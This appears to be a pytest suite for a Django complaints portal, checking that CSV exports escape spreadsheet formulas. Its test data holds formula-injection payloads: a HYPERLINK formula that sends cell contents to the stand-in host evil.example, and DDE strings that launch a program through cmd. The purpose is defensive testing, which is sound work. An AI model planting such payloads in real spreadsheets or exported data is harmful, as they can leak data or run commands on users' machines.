"""Every CSV the portal exports is safe to open in a spreadsheet: no cell is run as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from escalation.csv_export import spreadsheet_safe
from escalation.roles import COMPLAINTS_MANAGERS
from tests.escalation.factories import filed_complaint, staff_member

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Zoë Example", "NS-AB12-CD34", "", "a=b", " =leading space kept as text"])
def test_ordinary_text_is_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [3, -4, 2.5, None])
def test_numbers_and_blanks_stay_numbers_and_blanks(value):
    assert spreadsheet_safe(value) == ("" if value is None else value)


def test_the_escalations_export_neutralises_a_customer_and_an_owner_named_as_formulas(client):
    owner = staff_member(COMPLAINTS_MANAGERS, first_name="=cmd|' /C calc'!A0", last_name="")
    client.force_login(owner)
    late = filed_complaint(days_ago=9, customer_name=FORMULAS[0])
    late.assigned_to = owner
    late.save()

    response = client.get(reverse("staff:escalations"), {"format": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    row = next(row for row in rows if row[0] == late.reference)
    assert row[1] == "'" + FORMULAS[0]
    assert row[-1].startswith("'=cmd")
    for cell in (cell for row in rows for cell in row):
        assert not re.match(r"[=+\-@\t\r]", cell) or cell.lstrip("-").isdigit(), cell


def test_the_monthly_report_export_goes_through_the_same_writer(client):
    client.force_login(staff_member(COMPLAINTS_MANAGERS))
    filed_complaint(days_ago=1)
    for by in ("category", "channel"):
        response = client.get(reverse("staff:reports"), {"by": by, "format": "csv"})
        assert response["Content-Type"].startswith("text/csv")
        assert response["Cache-Control"] == "private, no-store"


def test_no_code_writes_csv_except_through_the_safe_writer():
    writers = [
        path
        for app in ("complaints", "escalation", "notifications", "config")
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert [path.name for path in writers] == ["csv_export.py"]
